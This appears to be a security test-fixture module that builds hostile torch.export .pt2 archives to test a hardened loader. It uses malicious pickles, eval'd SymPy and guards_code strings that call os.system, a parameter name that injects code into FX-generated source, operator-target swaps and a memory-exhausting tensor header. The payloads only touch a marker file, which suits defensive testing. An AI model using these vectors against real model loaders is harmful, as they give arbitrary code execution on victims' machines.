"""Hostile ``.pt2`` archives made from a *real* ``torch.export.save`` archive.

Every variant changes one thing a plain ``torch.export.load`` trusts (see the docstring of
``onp_core.models.exported``): a pickled sample-inputs member, a ``use_pickle`` weight, an
``opaque_obj_`` constant, a SymPy expression that ``eval``s, ``guards_code`` that is exec'd,
an AOTInductor folder, a ``from_file`` operator, a code-injecting parameter name, a legacy
layout, a zip bomb …
"""
from __future__ import annotations

import json
import zipfile
from collections.abc import Callable
from pathlib import Path

from .pickles import evil_pickle, evil_torch_save

Members = dict[str, bytes]


def read_members(path: Path) -> tuple[str, Members]:
    with zipfile.ZipFile(path) as z:
        names = z.namelist()
        root = names[0].split("/", 1)[0]
        return root, {n[len(root) + 1:]: z.read(n) for n in names}


def write_members(path: Path, root: str, members: Members, compression: int = zipfile.ZIP_STORED) -> Path:
    with zipfile.ZipFile(path, "w", compression) as z:
        for rel, data in members.items():
            z.writestr(f"{root}/{rel}" if root else rel, data)
    return path


def _model_json(ms: Members) -> dict:
    return json.loads(ms["models/model.json"])


def _set_model_json(ms: Members, j: dict) -> None:
    ms["models/model.json"] = json.dumps(j).encode()


def sample_inputs_pickle(ms: Members, marker: Path) -> Members:
    ms["data/sample_inputs/model.pt"] = evil_torch_save(marker, wrap_state_dict=False)
    return ms


def use_pickle_weight(ms: Members, marker: Path) -> Members:
    cfg = json.loads(ms["data/weights/model_weights_config.json"])
    fqn, entry = next(iter(cfg["config"].items()))
    entry["use_pickle"] = True
    ms["data/weights/model_weights_config.json"] = json.dumps(cfg).encode()
    ms["data/weights/" + entry["path_name"]] = evil_torch_save(marker, wrap_state_dict=False)
    return ms


def opaque_constant(ms: Members, marker: Path) -> Members:
    ms["data/constants/model_constants_config.json"] = json.dumps(
        {"config": {"c": {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}}}
    ).encode()
    ms["data/constants/opaque_obj_0"] = evil_pickle(marker)
    return ms


def legacy_weights(ms: Members, marker: Path) -> Members:
    ms["data/weights/model.pt"] = evil_torch_save(marker)
    return ms


def sympy_eval(ms: Members, marker: Path) -> Members:
    text = ms["models/model.json"].decode()
    needle = next(s for s in ('"expr_str": "Symbol(', '"expr_str":"Symbol(') if s in text)
    start = text.index(needle) + len('"expr_str": "') - (1 if needle.startswith('"expr_str":"') else 0)
    end = text.index('"', start)
    payload = f"__import__('os').system('touch {marker}')"
    ms["models/model.json"] = (text[:start] + payload + text[end:]).encode()
    return ms


def guards_code(ms: Members, marker: Path) -> Members:
    j = _model_json(ms)
    j["guards_code"] = [f"__import__('os').system('touch {marker}') == 0"]
    _set_model_json(ms, j)
    return ms


def aotinductor(ms: Members, marker: Path) -> Members:
    ms["data/aotinductor/model/model.so"] = b"\x7fELF not really"
    return ms


def from_file_op(ms: Members, marker: Path) -> Members:
    j = _model_json(ms)
    node = j["graph_module"]["graph"]["nodes"][0]
    node["target"] = "torch.ops.aten.from_file.default"
    _set_model_json(ms, j)
    return ms


def non_torch_target(ms: Members, marker: Path) -> Members:
    j = _model_json(ms)
    j["graph_module"]["graph"]["nodes"][0]["target"] = "torch.hub.load"
    _set_model_json(ms, j)
    return ms


def injected_param_name(ms: Members, marker: Path) -> Members:
    """A parameter name that FX would paste into generated code as ``getattr(self, "<name>")``."""
    evil = f'w"),getattr(__import__("os"),"system")("touch {marker}"),getattr(self,"w'
    cfg = json.loads(ms["data/weights/model_weights_config.json"])
    fqn = next(iter(cfg["config"]))
    cfg["config"][evil] = cfg["config"].pop(fqn)
    ms["data/weights/model_weights_config.json"] = json.dumps(cfg).encode()
    ms["models/model.json"] = ms["models/model.json"].replace(f'"{fqn}"'.encode(), json.dumps(evil).encode())
    return ms


def huge_empty_weight(ms: Members, marker: Path) -> Members:
    """An empty record whose metadata claims 2**40 elements (torch would allocate it from metadata)."""
    cfg = json.loads(ms["data/weights/model_weights_config.json"])
    entry = next(iter(cfg["config"].values()))
    entry["tensor_meta"]["sizes"] = [{"as_int": 1 << 20}, {"as_int": 1 << 20}]
    entry["tensor_meta"]["strides"] = [{"as_int": 1 << 20}, {"as_int": 1}]
    ms["data/weights/model_weights_config.json"] = json.dumps(cfg).encode()
    ms["data/weights/" + entry["path_name"]] = b""
    return ms


def truncated_weight(ms: Members, marker: Path) -> Members:
    cfg = json.loads(ms["data/weights/model_weights_config.json"])
    entry = next(iter(cfg["config"].values()))
    rec = "data/weights/" + entry["path_name"]
    ms[rec] = ms[rec][: len(ms[rec]) // 2]
    return ms


VARIANTS: dict[str, Callable[[Members, Path], Members]] = {
    "sample_inputs_pickle": sample_inputs_pickle,
    "use_pickle_weight": use_pickle_weight,
    "opaque_constant": opaque_constant,
    "legacy_weights": legacy_weights,
    "sympy_eval": sympy_eval,
    "guards_code": guards_code,
    "aotinductor": aotinductor,
    "from_file_op": from_file_op,
    "non_torch_target": non_torch_target,
    "injected_param_name": injected_param_name,
    "huge_empty_weight": huge_empty_weight,
    "truncated_weight": truncated_weight,
}


def make_variant(src: Path, dst: Path, variant: str, marker: Path) -> Path:
    root, ms = read_members(src)
    return write_members(dst, root, VARIANTS[variant](ms, marker))


def legacy_archive(dst: Path, marker: Path) -> Path:
    """The torch <= 2.7 layout (no root folder), reached by ``torch.export.load``'s fallback."""
    return write_members(dst, "", {
        "version": b"8.20",
        "serialized_exported_program.json": b"{}",
        "serialized_state_dict.pt": evil_torch_save(marker),
        "serialized_constants.pt": evil_torch_save(marker),
        "serialized_example_inputs.pt": evil_torch_save(marker),
    })
